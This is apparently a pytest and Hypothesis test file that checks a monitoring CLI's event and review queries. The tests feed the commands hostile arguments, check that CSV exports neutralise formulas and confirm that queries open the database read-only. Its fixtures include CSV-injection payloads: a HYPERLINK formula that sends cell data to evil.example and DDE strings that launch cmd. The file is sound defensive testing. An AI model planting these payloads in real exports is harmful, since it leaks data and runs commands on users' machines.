"""The query commands (``monitor events``, ``monitor reviews``) under hostile input.

Every argument either works (exit 0) or is refused in one line (argparse's exit 2, or the CLI's
own ``monitor: error: ...`` with ``EXIT_USAGE``/``EXIT_FAILURE``), never a traceback; CSV cells
cannot run as spreadsheet formulas; a query opens the database read-only and never creates or
migrates it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass, replace
from datetime import timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.exc import SQLAlchemyError

from monitor.cli import EXIT_FAILURE, EXIT_OK, EXIT_USAGE, main
from monitor.store import EventWriter, StoreError, open_database
from monitor.store.db import migrate, open_database_readonly
from monitor.store.queries import set_operator_label
from monitor.types import (
    Alert, AlertType, Box, Event, EventKind, OutboxMessage, Review, ReviewChange, ReviewMessage,
    Severity,
)
from tests.builders import EPOCH

# Cells a spreadsheet would run as a formula (OWASP "CSV injection"), stored as they came.
FORMULAS = {
    "camera": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "label": "+cmd|' /C calc'!A0",
    "zone": "-2+3",
    "snapshot": "@SUM(1+1)*cmd|' /C calc'!A0",
    "operator_label": "\t=1+1",
}
NEEDS_QUOTE = '\r=1+1, with "quotes",\nand a new line'


@dataclass(frozen=True)
class Database:
    url: str
    path: Path
    config: Path
    folder: Path


def make_event(event_id: str, **overrides: object) -> Event:
    made = Event(id=event_id, camera="cam1", kind=EventKind.INTRUSION, label="person",
                 track_id=1, start_time=EPOCH, end_time=EPOCH + timedelta(seconds=9), score=0.5,
                 box=Box(-5.0, 0.0, 10.0, 10.0), zone="yard", zones=("yard",), seen_at=EPOCH)
    return replace(made, **overrides)  # type: ignore[arg-type]


def fill(url: str) -> None:
    """A database made the way the daemon makes it, with ordinary and formula-like rows."""
    engine = open_database(url)
    writer = EventWriter(engine)
    writer.start()
    plain = make_event("ev-plain")
    formulas = make_event("ev-formula", start_time=EPOCH + timedelta(minutes=1),
                          zones=("=evil()", "yard"), **FORMULAS)
    quoted = make_event("ev-quoted", start_time=EPOCH + timedelta(minutes=2), zone=NEEDS_QUOTE)
    for event in (plain, formulas, quoted):
        writer.record(Alert(AlertType.END, event), None)
    review = Review(id="rv-formula", camera=FORMULAS["camera"], start_time=EPOCH,
                    end_time=EPOCH + timedelta(minutes=3), severity=Severity.ALERT,
                    event_ids=("ev-plain", "ev-formula"), kinds=("intrusion",),
                    labels=("@label",), zones=("=evil()",))
    writer.record_review(ReviewMessage(ReviewChange.END, review, "ev-formula"),
                         OutboxMessage(None, "cam1", "monitor/reviews", "{}"))
    writer.stop(5.0)
    set_operator_label(engine, "ev-formula", FORMULAS["operator_label"])  # not the writer's
    engine.dispose()


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Database:
    folder = tmp_path_factory.mktemp("queries")
    path = folder / "monitor.db"
    url = f"sqlite:///{path}"
    fill(url)
    config = folder / "monitor.toml"
    config.write_text(f'[database]\nurl = "{url}"\n')
    return Database(url, path, config, folder)


def fingerprint(path: Path) -> tuple[str, int]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns


@dataclass(frozen=True)
class Outcome:
    code: int
    stdout: str
    stderr: str


def run(argv: list[str]) -> Outcome:
    """``monitor ARGV`` in this process; fails the test on a traceback or a multi-line error."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:  # argparse: --help, or a usage error
            assert exc.code in (EXIT_OK, EXIT_USAGE), (argv, exc.code, err.getvalue())
            return Outcome(int(exc.code or 0), out.getvalue(), err.getvalue())
    assert code in (EXIT_OK, EXIT_USAGE, EXIT_FAILURE), (argv, code)
    if code != EXIT_OK:
        lines = err.getvalue().splitlines()
        assert len(lines) == 1 and lines[0].startswith("monitor: error: "), (argv, lines)
    return Outcome(code, out.getvalue(), err.getvalue())


# --- the fuzzing -------------------------------------------------------------------------------

_offsets = st.timedeltas(min_value=-timedelta(hours=23, minutes=59),
                         max_value=timedelta(hours=23, minutes=59)).map(timezone)
_dates = st.one_of(
    st.datetimes().map(lambda d: d.isoformat()),
    st.datetimes(timezones=_offsets).map(lambda d: d.isoformat()),
    st.datetimes().map(lambda d: d.strftime("%Y-%m-%d")),
    st.sampled_from([
        "0001-01-01T00:00+14:00", "0001-01-01T00:00:00+00:01", "9999-12-31T23:59:59-00:01",
        "9999-12-31T23:59-14:00", "0001-01-01", "9999-12-31", "2026-02-30", "2026-W01",
        "20261125T1000Z", "2026-11-25T10:00Z", "2026-11-25 10:00:00.123456+05:30",
    ]),
)
_ages = st.builds(
    "{}{}{}".format,
    st.one_of(st.integers(min_value=0, max_value=10**30).map(str),
              st.sampled_from(["9" * 400, "0", "00", "٣", "１２", "1.5", "1." + "9" * 50])),
    st.sampled_from(["", ".25"]),
    st.sampled_from(list("smhd") + ["", "w", "y", "S"]),
)
_numbers = st.one_of(
    st.integers().map(str),
    st.integers(min_value=2**62, max_value=2**80).map(str),
    st.sampled_from([
        "0", "-1", "1", "50", str(2**63 - 1), str(2**63), str(-(2**63)), "9" * 20, "9" * 5000,
        "1e309", "nan", "inf", "-0", " 7 ", "1_000", "٣", "0x10", "1.5",
    ]),
)
_odd_text = st.one_of(
    st.text(max_size=24),
    st.text(st.characters(codec="utf-8"), max_size=12),
    # What a real argv holds: bytes that are not UTF-8 arrive as lone surrogates.
    st.binary(max_size=16).map(os.fsdecode),
    st.sampled_from(["", "\x00", "a\x00b", "\n", "-", "--", "cam1", "=1+1", "\u202e", "\ufeff"]),
)
_values = st.one_of(_odd_text, _numbers, _dates, _ages)

FILTERS = {"events": ("--kind", [k.value for k in EventKind]),
           "reviews": ("--severity", [s.value for s in Severity])}


def mostly(draw: st.DrawFn, usual: st.SearchStrategy[str], odd: st.SearchStrategy[str]) -> str:
    """Usually a well-formed value, so that most argument lists get past argparse to the query."""
    return draw(odd if draw(st.integers(0, 4)) == 0 else usual)


@st.composite
def query_argv(draw: st.DrawFn, database: Database) -> list[str]:
    command = draw(st.sampled_from(sorted(FILTERS)))
    flag, choices = FILTERS[command]
    argv = [command]
    if draw(st.booleans()):
        argv.append(mostly(draw, st.sampled_from(["list", "show"]), _odd_text))
        if argv[-1] == "show" or draw(st.booleans()):
            argv.append(mostly(draw, st.sampled_from(["ev-plain", "rv-formula"]), _values))
    option_values = {
        "--limit": _numbers, "--since": st.one_of(_dates, _ages), "--until": st.one_of(_dates, _ages),
        "--camera": st.one_of(st.sampled_from(["cam1", FORMULAS["camera"]]), _odd_text),
        flag: st.sampled_from(choices), "--format": st.sampled_from(["table", "json", "csv"]),
    }
    for option in draw(st.lists(st.sampled_from(sorted(option_values)), max_size=5)):
        argv += [option, mostly(draw, option_values[option], _values)]
    source = draw(st.sampled_from(["db"] * 6 + ["config", "odd-db", "odd-config", "none"]))
    # Odd paths stay inside the test's folder: no '/' to climb out with.
    odd_name = draw(_odd_text).replace("/", "_")
    if source == "db":
        argv += ["--db", database.url]
    elif source == "config":
        argv += ["--config", str(database.config)]
    elif source == "odd-db":
        argv += ["--db", draw(st.sampled_from([
            f"sqlite:///{database.folder}/{odd_name}", odd_name, "sqlite://", "sqlite:///:memory:",
            f"sqlite:///{database.folder}", "nosuchdriver://x", f"sqlite:///{database.url}",
        ]))]
    elif source == "odd-config":
        argv += ["--config", draw(st.sampled_from([
            f"{database.folder}/{odd_name}", str(database.folder), str(database.path),
        ]))]
    return argv


@settings(max_examples=1000, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_no_argument_gives_a_traceback(database: Database, data: st.DataObject) -> None:
    before = fingerprint(database.path)
    entries = set(os.listdir(database.folder))
    run(data.draw(query_argv(database)))
    assert fingerprint(database.path) == before
    # Nothing created next to it, except SQLite's own WAL companions of the database.
    assert set(os.listdir(database.folder)) - entries <= {"monitor.db-wal", "monitor.db-shm"}


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["events", "--limit", "99999999999999999999"], EXIT_USAGE, "--limit"),
        (["events", "--limit", str(2**63)], EXIT_USAGE, "--limit"),
        (["reviews", "--limit", "9" * 30], EXIT_USAGE, "--limit"),
        (["events", "--since", "0001-01-01T00:00+14:00"], EXIT_USAGE, "outside"),
        (["events", "--until", "9999-12-31T23:59-14:00"], EXIT_USAGE, "outside"),
        (["reviews", "--since", "0001-01-01T00:00:00+00:01"], EXIT_USAGE, "outside"),
        (["events", "--since", "9" * 400 + "d"], EXIT_USAGE, "before year 1"),
        (["events", "--since", "99999999999d"], EXIT_USAGE, "before year 1"),
        (["events", "--since", "2026\n-01-01"], EXIT_USAGE, "cannot read time"),
        (["events", "--camera", "\udcff"], EXIT_USAGE, "--camera"),
        (["events", "--camera", "a\x00b"], EXIT_USAGE, "--camera"),
        (["events", "show", "a\nb"], EXIT_USAGE, "EVENT_ID"),
        (["reviews", "show", "\udcff"], EXIT_USAGE, "REVIEW_ID"),
    ],
)
def test_what_the_probe_found_is_one_line(
    database: Database, args: list[str], code: int, message: str
) -> None:
    outcome = run([*args, "--db", database.url])
    assert outcome.code == code and message in outcome.stderr, outcome


@pytest.mark.parametrize("name", ["a\x00b", "x\n", "x\ry", "\x1b[31m"])
def test_a_config_path_with_control_characters_is_a_usage_error(
    database: Database, name: str
) -> None:
    outcome = run(["events", "--config", str(database.folder / name)])
    assert outcome.code == EXIT_USAGE and "without control characters" in outcome.stderr


def test_ordinary_queries_still_answer(database: Database) -> None:
    listed = run(["events", "--db", database.url, "--since", "2026-01-01", "--limit", "2"])
    assert listed.code == EXIT_OK and "ev-quoted" in listed.stdout and "ev-plain" not in listed.stdout
    oldest = run(["events", "--config", str(database.config), "--since", "0001-01-01",
                  "--until", "9999-12-31T23:59:59", "--limit", str(2**63 - 1)])
    assert oldest.code == EXIT_OK and "ev-plain" in oldest.stdout
    shown = run(["events", "show", "ev-formula", "--db", database.url])
    assert shown.code == EXIT_OK and FORMULAS["label"] in shown.stdout


def test_undecodable_argv_bytes_are_one_line_in_a_real_process(database: Database) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "monitor.cli", "events", "--camera", b"\xff\xfe", "--db",
         database.url],
        capture_output=True, timeout=60, cwd=database.folder,
    )
    assert done.returncode == EXIT_USAGE and b"Traceback" not in done.stderr, done.stderr
    assert b"argument --camera: expected printable text" in done.stderr.splitlines()[-1]


# --- CSV ---------------------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", re.ASCII)


def read_csv(database: Database, command: str) -> list[dict[str, str]]:
    outcome = run([command, "--db", database.url, "--format", "csv"])
    assert outcome.code == EXIT_OK, outcome
    return list(csv.DictReader(io.StringIO(outcome.stdout, newline="")))


@pytest.mark.parametrize("command", ["events", "reviews"])
def test_no_csv_cell_can_run_as_a_formula(database: Database, command: str) -> None:
    rows = read_csv(database, command)
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (column, cell)


def test_csv_cells_keep_their_text_after_the_quote(database: Database) -> None:
    rows = {row["id"]: row for row in read_csv(database, "events")}
    formula = rows["ev-formula"]
    for column, value in FORMULAS.items():
        assert formula[column] == "'" + value
    assert formula["zones"] == "'=evil() yard"
    assert formula["box"] == "'-5.0 0.0 10.0 10.0"  # text, not the number -5
    assert rows["ev-quoted"]["zone"] == "'" + NEEDS_QUOTE  # the CR and LF survive, quoted
    assert rows["ev-plain"]["camera"] == "cam1" and rows["ev-plain"]["score"] == "0.5"
    [review] = read_csv(database, "reviews")
    assert review["camera"] == "'" + FORMULAS["camera"] and review["labels"] == "'@label"


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'n.db'}"
    engine = open_database(url)
    writer = EventWriter(engine)
    writer.start()
    writer.record(Alert(AlertType.END, make_event("ev-1", track_id=-3, dwell_s=-0.5)), None)
    writer.stop(5.0)
    engine.dispose()
    outcome = run(["events", "--db", url, "--format", "csv"])
    [row] = csv.DictReader(io.StringIO(outcome.stdout, newline=""))
    assert row["track_id"] == "-3" and row["dwell_s"] == "-0.5"


# --- read-only ---------------------------------------------------------------------------------

@pytest.fixture
def old_sqlite(tmp_path: Path) -> Iterator[Path]:
    """A SQLite database the previous release left at revision 0004."""
    path = tmp_path / "old.db"
    fill(f"sqlite:///{path}")
    engine = open_database(f"sqlite:///{path}")
    migrate(engine, "0004", down=True)
    engine.dispose()
    yield path


@pytest.mark.parametrize("command", ["events", "reviews", "events show ev-plain"])
def test_a_query_refuses_an_older_schema_and_leaves_the_file_alone(
    old_sqlite: Path, command: str
) -> None:
    before = fingerprint(old_sqlite)
    outcome = run([*command.split(), "--db", f"sqlite:///{old_sqlite}"])
    assert outcome.code == EXIT_FAILURE and "0004" in outcome.stderr, outcome
    assert "older" in outcome.stderr and outcome.stdout == ""
    assert fingerprint(old_sqlite) == before


def test_a_query_refuses_a_newer_schema(old_sqlite: Path) -> None:
    import sqlite3

    with sqlite3.connect(old_sqlite) as conn:
        conn.execute("UPDATE alembic_version SET version_num = '9999'")
    conn.close()
    before = fingerprint(old_sqlite)
    outcome = run(["events", "--db", f"sqlite:///{old_sqlite}"])
    assert outcome.code == EXIT_FAILURE and "9999" in outcome.stderr and "newer" in outcome.stderr
    assert fingerprint(old_sqlite) == before


def test_a_query_refuses_a_file_that_is_not_a_monitor_database(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "other.db"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE notes (x)")
    conn.close()
    before = fingerprint(path)
    outcome = run(["events", "--db", f"sqlite:///{path}"])
    assert outcome.code == EXIT_FAILURE and "not a monitor database" in outcome.stderr, outcome
    assert fingerprint(path) == before
    garbage = tmp_path / "garbage.db"
    garbage.write_bytes(b"not sqlite at all" * 100)
    outcome = run(["reviews", "--db", f"sqlite:///{garbage}"])
    assert outcome.code == EXIT_FAILURE, outcome
    assert garbage.read_bytes() == b"not sqlite at all" * 100


@pytest.mark.parametrize("where", ["missing.db", "no/such/dir/missing.db"])
@pytest.mark.parametrize("command", ["events", "reviews", "events show x"])
def test_a_query_of_a_missing_file_does_not_create_it(
    tmp_path: Path, where: str, command: str
) -> None:
    outcome = run([*command.split(), "--db", f"sqlite:///{tmp_path / where}"])
    assert outcome.code in (EXIT_USAGE, EXIT_FAILURE) and "no database at" in outcome.stderr
    assert list(tmp_path.iterdir()) == []


def test_the_sqlite_query_engine_cannot_write(database: Database) -> None:
    before = fingerprint(database.path)
    engine = open_database_readonly(database.url)
    try:
        with pytest.raises(SQLAlchemyError, match="readonly"), engine.begin() as conn:
            conn.execute(text("DELETE FROM events"))
    finally:
        engine.dispose()
    assert fingerprint(database.path) == before


@pytest.mark.integration
def test_the_postgres_query_session_cannot_write(postgres_url: str) -> None:
    fill(postgres_url)
    listed = run(["events", "--db", postgres_url, "--format", "json", "--camera", "a\x00b"])
    assert listed.code == EXIT_USAGE  # refused before PostgreSQL sees a NUL
    listed = run(["events", "--db", postgres_url, "--format", "csv", "--limit", str(2**63 - 1)])
    assert listed.code == EXIT_OK and "ev-formula" in listed.stdout, listed
    engine = open_database_readonly(postgres_url)
    try:
        with engine.connect() as conn:
            assert conn.execute(text("SHOW transaction_read_only")).scalar_one() == "on"
        with pytest.raises(SQLAlchemyError, match="read-only transaction"), engine.begin() as conn:
            conn.execute(text("DELETE FROM events"))
        with pytest.raises(SQLAlchemyError, match="read-only transaction"), engine.begin() as conn:
            conn.execute(text("CREATE TABLE intruder (x int)"))
    finally:
        engine.dispose()
    writable = open_database(postgres_url)
    try:
        migrate(writable, "0004", down=True)
        with writable.connect() as conn:
            count = conn.execute(text("SELECT count(*) FROM events")).scalar_one()
    finally:
        writable.dispose()
    outcome = run(["events", "--db", postgres_url])
    assert outcome.code == EXIT_FAILURE and "0004" in outcome.stderr, outcome
    with pytest.raises(StoreError, match="0004"):
        open_database_readonly(postgres_url)
    writable = open_database(postgres_url)  # the daemon's own open still migrates
    try:
        with writable.connect() as conn:
            assert conn.execute(text("SELECT count(*) FROM events")).scalar_one() == count
    finally:
        writable.dispose()
